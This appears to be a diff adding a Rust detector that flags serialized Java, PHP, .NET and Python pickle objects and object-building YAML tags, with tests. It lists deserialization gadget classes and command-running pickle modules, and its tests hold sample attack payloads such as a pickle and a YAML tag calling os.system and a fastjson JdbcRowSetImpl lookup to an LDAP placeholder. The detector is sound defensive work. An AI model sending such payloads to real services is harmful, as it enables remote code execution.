@@ -1,0 +1,252 @@
+//! Serialized objects of Java, PHP, .NET and Python, and YAML tags that build
+//! objects: how deserialization attacks arrive.
+//!
+//! # Grammar
+//!
+//! ```text
+//! java   := 0xAC 0xED 0x00 0x05 | "aced0005" (hex) | "rO0AB" (base64)
+//!         | gadget class name (InvokerTransformer, TemplatesImpl, JdbcRowSetImpl, ...)
+//!         | '"@type"' ':' '"' class     (fastjson autoType)
+//! php    := ("O" | "C") ":" digits ":" '"' class '"' ":" digits ":" "{"
+//! dotnet := "AAEAAAD/////" (BinaryFormatter, base64)
+//!         | ('"$type"' | '"__type"') ':' '"' ... "System."   (Json.NET, DataContract)
+//!         | ObjectDataProvider | TypeConfuseDelegate | System.Diagnostics.Process
+//! python := 0x80 (2..=5) ... module (os, posix, nt, subprocess, builtins)  (pickle)
+//!         | "c" module "\n" name "\n"                                  (pickle, text)
+//!         | "gASV" | "gAN"                                             (pickle, base64)
+//! yaml   := "!!python/" | "!!javax." | "!!java." | "!!com.sun" | "!ruby/object"
+//! ```
+//!
+//! A PHP serialized *array* of strings (`a:1:{s:1:"x";}`) is data and passes; an
+//! object is what runs magic methods. Linear: a bounded number of searches.
+
+use crate::text::{find_ci, starts_with_ci};
+use crate::{Class, Finding};
+
+const GADGETS: &[&str] = &[
+    "invokertransformer",
+    "chainedtransformer",
+    "constanttransformer",
+    "instantiatetransformer",
+    "templatesimpl",
+    "jdbcrowsetimpl",
+    "badattributevalueexpexception",
+    "annotationinvocationhandler",
+    "ysoserial",
+    "objectdataprovider",
+    "typeconfusedelegate",
+    "system.diagnostics.process",
+    "system.windows.data",
+    "windowsidentity",
+    "java.lang.runtime",
+    "java.lang.processbuilder",
+    "javax.script.scriptenginemanager",
+    "com.sun.org.apache",
+    "org.apache.commons.collections",
+    "org.springframework.beans.factory",
+    "bsh.interpreter",
+    "groovy.util.expando",
+];
+
+const YAML_TAGS: &[&str] = &[
+    "!!python/",
+    "!!javax.",
+    "!!java.",
+    "!!com.sun",
+    "!ruby/object",
+    "!ruby/hash",
+    "!!ruby/",
+];
+
+const PICKLE_MODULES: &[&str] = &[
+    "os",
+    "posix",
+    "nt",
+    "subprocess",
+    "builtins",
+    "__builtin__",
+    "commands",
+    "pty",
+    "socket",
+];
+
+/// Scans `input` for a serialized object.
+pub fn scan(input: &[u8]) -> Option<Finding> {
+    let s = input;
+    let found = |rule, at: usize| Some(Finding::new(Class::Serialized, rule, at..s.len()));
+    if let Some(at) = memchr::memmem::find(s, b"\xac\xed\x00\x05") {
+        return found("Java serialization stream", at);
+    }
+    if let Some(at) = find_ci(s, 0, b"aced0005") {
+        return found("Java serialization stream (hex)", at);
+    }
+    if let Some(at) = memchr::memmem::find(s, b"rO0AB") {
+        if at == 0 || !s[at - 1].is_ascii_alphanumeric() {
+            return found("Java serialization stream (base64)", at);
+        }
+    }
+    if let Some(at) = memchr::memmem::find(s, b"AAEAAAD/////") {
+        return found(".NET BinaryFormatter stream (base64)", at);
+    }
+    for g in GADGETS {
+        if let Some(at) = find_ci(s, 0, g.as_bytes()) {
+            return found("deserialization gadget class", at);
+        }
+    }
+    for key in [&b"\"@type\""[..], b"\"$type\"", b"\"__type\""] {
+        if let Some(at) = find_ci(s, 0, key) {
+            let rest = &s[at + key.len()..(at + key.len() + 128).min(s.len())];
+            let value_start = rest.iter().position(|&c| c == b'"');
+            if let Some(v) = value_start {
+                let value = &rest[v + 1..];
+                // A class name: dotted words (Java) or `System.` (.NET).
+                let dotted = value
+                    .iter()
+                    .take_while(|&&c| c != b'"')
+                    .filter(|&&c| c == b'.')
+                    .count()
+                    >= 2;
+                if dotted || starts_with_ci(value, 0, b"system.") {
+                    return found("type name that drives deserialization", at);
+                }
+            }
+        }
+    }
+    if let Some(at) = php_object(s) {
+        return found("PHP serialized object", at);
+    }
+    for t in YAML_TAGS {
+        if let Some(at) = find_ci(s, 0, t.as_bytes()) {
+            return found("YAML tag that builds an object", at);
+        }
+    }
+    if let Some(at) = pickle(s) {
+        return found("Python pickle that imports a module", at);
+    }
+    None
+}
+
+/// `O:<len>:"<class>":<count>:{` (or `C:`), anywhere.
+fn php_object(s: &[u8]) -> Option<usize> {
+    let mut from = 0;
+    while let Some(rel) = memchr::memchr(b':', &s[from..]) {
+        let colon = from + rel;
+        from = colon + 1;
+        if colon == 0 || !matches!(s[colon - 1], b'O' | b'C') {
+            continue;
+        }
+        if colon >= 2 && s[colon - 2].is_ascii_alphanumeric() {
+            continue;
+        }
+        let mut k = colon + 1;
+        let digits = s[k..]
+            .iter()
+            .take(6)
+            .take_while(|c| c.is_ascii_digit())
+            .count();
+        if digits == 0 {
+            continue;
+        }
+        k += digits;
+        if s.get(k) != Some(&b':') || s.get(k + 1) != Some(&b'"') {
+            continue;
+        }
+        let name_start = k + 2;
+        let name_len = s[name_start..]
+            .iter()
+            .take(256)
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'\\'))
+            .count();
+        let m = name_start + name_len;
+        if name_len == 0 || s.get(m) != Some(&b'"') || s.get(m + 1) != Some(&b':') {
+            continue;
+        }
+        let count = s[m + 2..]
+            .iter()
+            .take(6)
+            .take_while(|c| c.is_ascii_digit())
+            .count();
+        if count > 0
+            && matches!(s.get(m + 2 + count), Some(b':'))
+            && s.get(m + 3 + count) == Some(&b'{')
+        {
+            return Some(colon - 1);
+        }
+    }
+    None
+}
+
+/// A pickle that imports one of the modules that run commands.
+fn pickle(s: &[u8]) -> Option<usize> {
+    if s.len() > 2 && s[0] == 0x80 && (2..=5).contains(&s[1]) {
+        let head = &s[..s.len().min(256)];
+        if PICKLE_MODULES
+            .iter()
+            .any(|m| memchr::memmem::find(head, m.as_bytes()).is_some())
+        {
+            return Some(0);
+        }
+    }
+    if s.starts_with(b"gASV") || s.starts_with(b"gAN") || s.starts_with(b"gAJ") {
+        return Some(0);
+    }
+    // Text protocol: `c` module newline name newline.
+    let mut from = 0;
+    while let Some(rel) = memchr::memchr(b'c', &s[from..]) {
+        let at = from + rel;
+        from = at + 1;
+        if at > 0 && !matches!(s[at - 1], b'\n' | b'(' | b'.' | b'0') {
+            continue;
+        }
+        for m in PICKLE_MODULES {
+            if s[at + 1..].starts_with(m.as_bytes()) && s.get(at + 1 + m.len()) == Some(&b'\n') {
+                return Some(at);
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(s: &[u8]) -> bool {
+        scan(s).is_some()
+    }
+
+    #[test]
+    fn attacks() {
+        for s in [
+            &b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"[..],
+            b"aced00057372",
+            b"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
+            b"AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u",
+            br#"O:8:"stdClass":1:{s:4:"name";s:5:"alice";}"#,
+            br#"a:1:{i:0;O:7:"Example":1:{s:3:"cmd";s:2:"id";}}"#,
+            br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}"#,
+            br#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#,
+            b"cos\nsystem\n(S'id'\ntR.",
+            b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94",
+            b"!!python/object/apply:os.system ['id']",
+            b"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
+            b"gASVJgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+        ] {
+            assert!(hit(s), "missed: {}", String::from_utf8_lossy(s));
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for s in [
+            &b"a:1:{s:1:\"x\";s:1:\"y\";}"[..],
+            b"Object: the thing",
+            br#"{"type":"user","name":"alice"}"#,
+            b"I love Java and Python",
+            b"rO0 is not base64 of anything",
+            b"CO:2 levels are rising",
+        ] {
+            assert!(!hit(s), "false positive: {}", String::from_utf8_lossy(s));
+        }
+    }
+}
